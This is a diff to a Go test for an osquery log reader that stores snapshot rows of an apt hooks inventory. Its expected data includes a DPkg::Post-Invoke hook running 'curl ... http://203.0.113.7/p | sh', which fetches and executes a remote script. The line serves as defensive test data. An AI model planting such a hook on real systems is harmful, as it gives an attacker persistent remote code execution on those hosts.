@@ -6,6 +6,7 @@ import (
 	"context"
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 	"time"
 
@@ -53,16 +54,41 @@ func TestRead(t *testing.T) {
 	}
 }
 
-// TestLongLine: a line over MaxLine is an error naming the line, not a
-// silent stop.
-func TestLongLine(t *testing.T) {
+// TestSnapshotEvents: osqueryd with --logger_snapshot_event_type logs each
+// snapshot row as its own line (action snapshot, the row in columns); each
+// is stored as a snapshot row of its query.
+func TestSnapshotEvents(t *testing.T) {
+	st := openStore(t)
+	ctx := context.Background()
+	f, err := os.Open("testdata/snapshot-events.results.log")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	s, err := Read(ctx, st, f, "snap.log")
+	if err != nil || s.Lines != 2 || s.Rows != 2 || s.New != 2 || s.Bad != 0 {
+		t.Fatalf("%+v %v", s, err)
+	}
+	rows, err := st.LoggedRows(ctx, "hooks-inventory", time.Unix(0, 0))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, r := range rows {
+		got = append(got, r.Host+" "+r.Row["hook"]+" "+r.Row["command"])
+	}
+	want := []string{"web1 APT::Update::Post-Invoke-Success /usr/bin/test -x /usr/lib/cnf-update-db", "web1 DPkg::Post-Invoke curl -fsS http://203.0.113.7/p | sh"}
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Errorf("stored snapshot rows:\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+}
+
+func openStore(t *testing.T) *store.SQLite {
+	t.Helper()
 	st, err := store.Open(filepath.Join(t.TempDir(), "p.db"))
 	if err != nil {
 		t.Fatal(err)
 	}
-	defer st.Close()
-	long := bytes.Repeat([]byte("x"), MaxLine+1)
-	if _, err := Read(context.Background(), st, bytes.NewReader(long), "big.log"); err == nil {
-		t.Error("over-long line accepted")
-	}
+	t.Cleanup(func() { st.Close() })
+	return st
 }
